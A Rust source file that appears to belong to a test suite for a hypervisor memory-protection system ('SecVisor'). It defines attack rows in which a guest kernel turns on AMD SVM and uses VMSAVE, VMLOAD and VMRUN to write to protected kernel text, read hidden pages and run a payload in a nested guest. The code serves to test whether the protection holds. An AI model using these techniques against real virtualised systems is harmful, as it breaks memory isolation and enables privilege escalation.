//! SVM from inside the guest: its instructions take physical addresses, which page tables do not
//! judge. Without SecVisor the guest just turns SVM on.

use core::arch::asm;

use super::hardware::mark;
use super::hidden::hidden;
use super::{Attack, Plan, place_payload};
use crate::cpu::{self, rdmsr, wrmsr};
use crate::memory::{self, HEAP, MARKER, PAGE, clear, poke, poke32};
use crate::trap::symbol;

const VM_HSAVE_PA: u32 = 0xC001_0117;
const KERNEL_GS_BASE: u32 = 0xC000_0102;
/// Fields of the VMCB that VMSAVE writes: FS, and KernelGSbase.
const FS: u64 = 0x440;
const KERNEL_GS: u64 = 0x620;
const VMCB: u64 = HEAP + 0x2000;
const HOST_STATE: u64 = HEAP + 0x3000;

/// Defines the kernel functions that each run one instruction of SVM on an address.
macro_rules! instructions {
    ($($name:ident $code:literal;)*) => {$(
        extern "C" fn $name(address: u64) {
            // SAFETY: this is what is being tried.
            unsafe {
                asm!(".byte 0x0f, 0x01", $code, inout("eax") address as u32 => _, in("ecx") 0)
            }
            mark();
        }
    )*};
}
instructions! {
    vmload ".byte 0xda";
    vmsave ".byte 0xdb";
    stgi ".byte 0xdc";
    skinit ".byte 0xde";
    invlpga ".byte 0xdf";
}

extern "C" fn clgi(_: u64) {
    // SAFETY: as above.
    unsafe { asm!(".byte 0x0f, 0x01, 0xdd") }
    stgi(0);
}

/// Turns SVM on, which the guest must not have.
extern "C" fn enable(_: u64) {
    wrmsr(cpu::EFER, rdmsr(cpu::EFER) | cpu::EFER_SVME);
    wrmsr(VM_HSAVE_PA, HOST_STATE);
}

/// Loads what SecVisor's memory holds into registers that the guest can read.
extern "C" fn load_and_show(address: u64) {
    vmload(address);
    poke(symbol!(witness), rdmsr(KERNEL_GS_BASE));
}

/// A guest of the guest's own, which runs until its first event.
extern "C" fn run(vmcb: u64) {
    // SAFETY: as above; what it runs changes RCX and RDX.
    unsafe {
        asm!(".byte 0x0f, 0x01, 0xd8", inout("eax") vmcb as u32 => _, out("ecx") _, out("edx") _)
    }
    stgi(0);
}

/// Fills a VMCB with the kernel as it is, about to run the payload at `entry`.
fn fill_vmcb(vmcb: u64, entry: u64) {
    const FLAT: u32 = u32::MAX;
    let code = if size_of::<usize>() == 8 { 0xA9B } else { 0xC9B };
    clear(vmcb, PAGE);
    // All exceptions, INT n and shutdown; VMRUN, as the processor demands; an ASID.
    for (at, word) in [(8, u32::MAX), (0xC, 1 << 21 | 1 << 31), (0x10, 1), (0x58, 1)] {
        poke32(vmcb + at, word);
    }
    for (at, selector, attributes) in
        [(0x400, 0x18, 0xC93), (0x410, 0x10, code), (0x420, 0x18, 0xC93), (0x430, 0x18, 0xC93)]
    {
        poke32(vmcb + at, selector | attributes << 16);
        poke32(vmcb + at + 4, FLAT);
    }
    let tables = [(0x460, symbol!(gdt)), (0x480, symbol!(idt))];
    for (at, base) in tables {
        poke32(vmcb + at + 4, 0xFFF);
        poke(vmcb + at + 8, base);
    }
    let registers = [(0x548, cpu::cr4()), (0x550, memory::root()), (0x558, cpu::cr0())];
    let more = [(0x560, 0x400), (0x568, 0xFFFF_0FF0), (0x570, 2), (0x578, entry)];
    for (at, value) in registers.into_iter().chain(more) {
        poke(vmcb + at, value);
    }
    poke(vmcb + 0x4D0, rdmsr(cpu::EFER) | cpu::EFER_SVME);
    poke(vmcb + 0x5D8, symbol!(df_stack_top));
}

/// A row's plan: SVM on, then an instruction on an address.
fn plan(target: u64, function: extern "C" fn(u64)) -> Plan {
    Plan::call(target, function as *const () as u64, target).after(enable, 0)
}

/// A row: an instruction that does nothing but go through.
macro_rules! passes {
    ($name:literal, $function:ident) => {
        Attack { name: $name, plan: |_| plan(HEAP, $function) }
    };
}

/// The rows.
pub const ROWS: &[Attack] = &[
    Attack {
        name: "svm-vmsave-text",
        plan: |_| Plan { witness: symbol!(victim) + FS, ..plan(symbol!(victim), vmsave) },
    },
    Attack {
        name: "svm-vmsave-hidden",
        plan: |options| {
            let target = hidden(options, |page| clear(page, PAGE));
            Plan { witness: target + FS, ..plan(target, vmsave) }
        },
    },
    Attack {
        name: "svm-vmload-hidden",
        plan: |options| {
            let target = hidden(options, |page| {
                enable(0);
                vmsave(page);
                poke(page + KERNEL_GS, MARKER);
                poke(symbol!(witness), memory::CANARY);
            });
            plan(target, load_and_show)
        },
    },
    Attack {
        name: "svm-vmrun",
        plan: |_| {
            fill_vmcb(VMCB, place_payload(HEAP));
            Plan { target: HEAP, ..plan(VMCB, run) }
        },
    },
    passes!("svm-clgi", clgi),
    passes!("svm-stgi", stgi),
    passes!("svm-invlpga", invlpga),
    passes!("svm-skinit", skinit),
];
